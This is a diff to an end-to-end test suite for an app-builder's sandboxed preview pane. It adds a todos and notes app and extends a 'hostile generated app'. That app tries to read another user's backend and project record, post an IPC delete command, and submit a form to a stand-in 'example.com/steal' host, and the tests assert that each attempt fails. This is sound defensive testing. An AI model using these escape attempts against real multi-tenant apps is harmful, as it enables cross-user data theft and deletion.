@@ -17,7 +17,7 @@ import {
   serverFor,
   until,
 } from "./driver.mjs";
-import { COUNTER_FILES } from "./projects.mjs";
+import { COUNTER_FILES, TODO_CONTRACT, TODO_FILES } from "./projects.mjs";
 import { projectScript, startMoto, startScriptedLlm } from "./servers.mjs";
 
 const LLM_KEY = "sk-e2e-preview-0c7e5f13";
@@ -50,6 +50,12 @@ export default function App() {
         await attempt('WebKit message handler', () => { window.webkit.messageHandlers.ipc.postMessage(JSON.stringify({ cmd: 'project_delete', callback: 1, error: 2, payload: victim })); return 'posted'; }),
         // A computed specifier, so the request reaches the preview server as written.
         await attempt("another user's project", () => { const stolen = ['', 'victim', 'victim-app', 'src', 'App.jsx'].join('/'); return import(stolen).then((m) => Object.keys(m)); }),
+        // The simulated backends' path: another user's, and the record of this project.
+        await attempt("another user's backend", () => fetch('/__bucketforge/api/victim/victim-app/api/todos').then((r) => r.status)),
+        await attempt('the project record through the backend', () => fetch('http://localhost:8000/.bucketforge/manifest.json').then((r) => r.text())),
+        await attempt('vendored files by fetch', () => fetch('/__bucketforge/vendor/react.js').then((r) => r.status)),
+        // A form may fire its submit event, but never send anything anywhere.
+        await attempt('form submission', () => { const f = document.createElement('form'); f.method = 'post'; f.action = 'https://example.com/steal'; const i = document.createElement('input'); i.name = 'x'; i.value = 'y'; f.append(i); document.body.append(f); f.submit(); return 'asked'; }),
         await attempt('top-level navigation', () => { window.top.location.href = 'https://example.com/'; return 'asked'; }),
       ];
       setLog(results);
@@ -64,6 +70,42 @@ export default function App() {
   );
 }
 `;
+
+/** A React-only app: a form adds notes, kept in localStorage; the page says what Vite's env says. */
+const NOTES_APP = `import { useState } from 'react';
+
+const API = import.meta.env.VITE_API_URL ?? 'http://localhost:8000';
+const load = () => JSON.parse(localStorage.getItem('notes') ?? '[]');
+
+export default function App() {
+  const [notes, setNotes] = useState(load);
+  const [text, setText] = useState('');
+  const add = (event) => {
+    event.preventDefault();
+    const next = [...notes, text];
+    localStorage.setItem('notes', JSON.stringify(next));
+    setNotes(load());
+    setText('');
+  };
+  return (
+    <main className="p-4">
+      <p id="mode">{import.meta.env.MODE}, API at {API}</p>
+      <form onSubmit={add}>
+        <label>Note <input name="note" value={text} onChange={(e) => setText(e.target.value)} /></label>
+        <button type="submit" className="bg-blue-600 text-white px-3 py-1">Add</button>
+      </form>
+      <ul id="notes">{notes.map((n, i) => <li key={i}>{n}</li>)}</ul>
+      <p id="stored">{localStorage.getItem('notes')}</p>
+    </main>
+  );
+}
+`;
+
+/** Types into a field of the sandboxed frame: WebKit's driver can't focus it by itself. */
+async function typeInFrame(app, field, text) {
+  await click(app, field);
+  await app.actions().sendKeys(text).perform();
+}
 
 async function openPreview(app, slug) {
   await goTo(app, "Projects");
@@ -92,7 +134,7 @@ describe("the preview pane", () => {
     generateProject(home, ["--idea", "A click counter", "--name", "Click Counter"]);
     const { app } = await launchFor(t, { name: "preview", home });
     const frame = await openPreview(app, "click-counter");
-    assert.equal(await frame.getAttribute("sandbox"), "allow-scripts");
+    assert.equal(await frame.getAttribute("sandbox"), "allow-scripts allow-forms");
     await app.switchTo().frame(frame);
     const button = await app.wait(until.elementLocated(By.xpath("//button[normalize-space()='Clicked 0 times']")), 30_000);
     assert.equal(await app.findElement(By.css("h1")).getText(), "Click Counter");
@@ -109,6 +151,93 @@ describe("the preview pane", () => {
     }, "the phone width");
     assert.ok(width > 300, `phone width ${width}`);
     await screenshot(app, "preview-phone");
+  });
+
+  it("runs a full-stack app against its backend, simulated from the contract, and lists its requests", async (t) => {
+    const llm = await serverFor(t, startScriptedLlm(projectScript({ name: "Todos", stack: "fastapi-react", contract: TODO_CONTRACT, files: TODO_FILES, apiKey: LLM_KEY })));
+    const home = configuredHome(moto, llm.openaiBaseUrl, LLM_KEY);
+    generateProject(home, ["--idea", "A to-do list", "--name", "Todos", "--stack", "fastapi-react"]);
+    const { app } = await launchFor(t, { name: "preview-backend", home });
+    let frame = await openPreview(app, "todos");
+    // The app's list grows below the window: bring the whole frame into view first.
+    await app.executeScript("arguments[0].scrollIntoView({ block: 'start' })", frame);
+    await app.switchTo().frame(frame);
+    // The custom endpoint answers its example.
+    const stats = await app.wait(until.elementLocated(By.css("#stats")), 30_000);
+    await app.wait(until.elementTextIs(stats, "3 in total, from the example"), 10_000);
+    const todos = () => app.findElements(By.css("#todos li"));
+    const add = async (title) => {
+      await typeInFrame(app, await app.findElement(By.css("input[name=title]")), title);
+      await click(app, await app.findElement(By.xpath("//button[normalize-space()='Add']")));
+    };
+    // Add (POST, then the list reloads), tick (PUT), remove (DELETE).
+    await add("Buy milk");
+    await app.wait(until.elementLocated(By.css("#todos li[data-id='1']")), 5_000);
+    await add("Walk the dog");
+    await app.wait(until.elementLocated(By.css("#todos li[data-id='2']")), 5_000);
+    await click(app, await app.findElement(By.css("#todos li[data-id='1'] input[type=checkbox]")));
+    await app.wait(until.elementLocated(By.css("#todos li[data-id='1'][data-done='true']")), 5_000);
+    await click(app, await app.findElement(By.css("#todos li[data-id='2'] button")));
+    await eventually(async () => ((await todos()).length === 1 ? true : null), "the removed task gone");
+    assert.match(await (await todos())[0].getText(), /Buy milk/);
+    assert.equal((await app.findElements(By.css("#error"))).length, 0);
+    await app.switchTo().defaultContent();
+
+    // The toolbar says what answers the app, and lists each request it made.
+    const backend = await app.wait(until.elementLocated(By.css("[data-testid=preview-backend]")), 10_000);
+    assert.match(await backend.getText(), /simulated from the app's API contract \(5 endpoints\)/);
+    await click(app, await backend.findElement(By.xpath(".//button[starts-with(normalize-space(), 'Requests')]")));
+    await app.wait(until.elementLocated(By.css("[data-testid=preview-calls]")), 5_000);
+    const requests = await eventually(async () => {
+      const text = String(await app.executeScript("return document.querySelector('[data-testid=preview-calls]')?.textContent ?? ''"));
+      return text.includes("DELETE/api/todos/2") ? text : null;
+    }, "the DELETE in the request panel", 10_000);
+    for (const call of ["GET/api/stats200", "POST/api/todos200", "PUT/api/todos/1200", "DELETE/api/todos/2200"]) {
+      assert.ok(requests.includes(call), `${call} in\n${requests}`);
+    }
+    await screenshot(app, "preview-fullstack");
+
+    // Reset data: the app starts again from an empty list.
+    await click(app, await backend.findElement(By.xpath(".//button[normalize-space()='Reset data']")));
+    frame = await app.wait(until.elementLocated(By.css("[data-testid=preview-frame]")), 10_000);
+    await app.executeScript("arguments[0].scrollIntoView({ block: 'start' })", frame);
+    await app.switchTo().frame(frame);
+    await app.wait(until.elementLocated(By.css("#stats")), 30_000);
+    await add("Fresh start");
+    await app.wait(until.elementLocated(By.css("#todos li[data-id='1']")), 5_000);
+    assert.equal((await todos()).length, 1);
+    await app.switchTo().defaultContent();
+  });
+
+  it("runs what every browser page has: a form's submit, localStorage, import.meta.env and Tailwind v4", async (t) => {
+    const files = {
+      ...COUNTER_FILES,
+      "src/index.css": '@import "tailwindcss";\nbody { margin: 2rem; }\n',
+      "src/App.jsx": NOTES_APP,
+    };
+    delete files["src/components/Title.jsx"];
+    const home = await homeWriting(t, "Notes", files);
+    generateProject(home, ["--idea", "Notes kept in the browser", "--name", "Notes"]);
+    const { app } = await launchFor(t, { name: "preview-browser", home });
+    const frame = await openPreview(app, "notes");
+    await app.switchTo().frame(frame);
+    // The default-stack prompt's base URL reads import.meta.env, as under Vite's dev server.
+    const mode = await app.wait(until.elementLocated(By.css("#mode")), 30_000);
+    assert.equal(await mode.getText(), "development, API at http://localhost:8000");
+    await typeInFrame(app, await app.findElement(By.css("input[name=note]")), "Buy milk");
+    await click(app, await app.findElement(By.css("button[type=submit]")));
+    const saved = await app.wait(until.elementLocated(By.css("#notes li")), 5_000);
+    assert.equal(await saved.getText(), "Buy milk");
+    // Kept in localStorage, which a sandboxed frame doesn't have: read back from it.
+    assert.equal(await app.findElement(By.css("#stored")).getText(), '["Buy milk"]');
+    // Tailwind's classes are styled (bg-blue-600 is rgb(37, 99, 235) in v3 and v4 alike).
+    const colour = await eventually(async () => {
+      const c = await app.executeScript("return getComputedStyle(document.querySelector('button[type=submit]')).backgroundColor");
+      return c && c !== "rgba(0, 0, 0, 0)" ? c : null;
+    }, "the Tailwind-styled button", 20_000);
+    assert.match(colour, /37, 99, 235|oklch/);
+    await app.switchTo().defaultContent();
+    await screenshot(app, "preview-browser-features");
   });
 
   it("lets a hostile generated app run no command and read nothing of another user", async (t) => {
@@ -133,6 +262,9 @@ describe("the preview pane", () => {
       assert.equal(after[command] ?? 0, before[command] ?? 0, `${command} ran`);
     }
     assert.match(attempts, /another user's project: failed/);
+    for (const name of ["another user's backend", "the project record through the backend", "vendored files by fetch"]) {
+      assert.match(attempts, new RegExp(`${name}: failed`));
+    }
     // The other user's project is all there, read with our own S3 client.
     assert.ok(moto.list("projects/victim/victim-app/").includes("projects/victim/victim-app/src/App.jsx"));
     // The window still shows BucketForge.
